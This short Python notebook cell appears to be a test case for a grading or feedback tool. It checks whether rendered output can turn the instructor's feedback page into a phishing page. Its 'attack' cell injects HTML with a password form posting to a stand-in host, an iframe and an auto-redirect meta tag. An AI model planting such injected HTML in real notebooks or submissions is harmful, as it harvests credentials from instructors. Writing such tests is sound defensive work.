# ruff: noqa
"""
goal = "a form and a frame that ask the instructor for a password"
invariant = "a page of feedback asks for nothing"
held_by = ["feedback"]
"""

# %% attack
from IPython.display import HTML, display

display(HTML("<form action='https://example.com'><input name=password></form>"))
display(HTML("<iframe src='https://example.com'></iframe><meta http-equiv=refresh content=0>"))
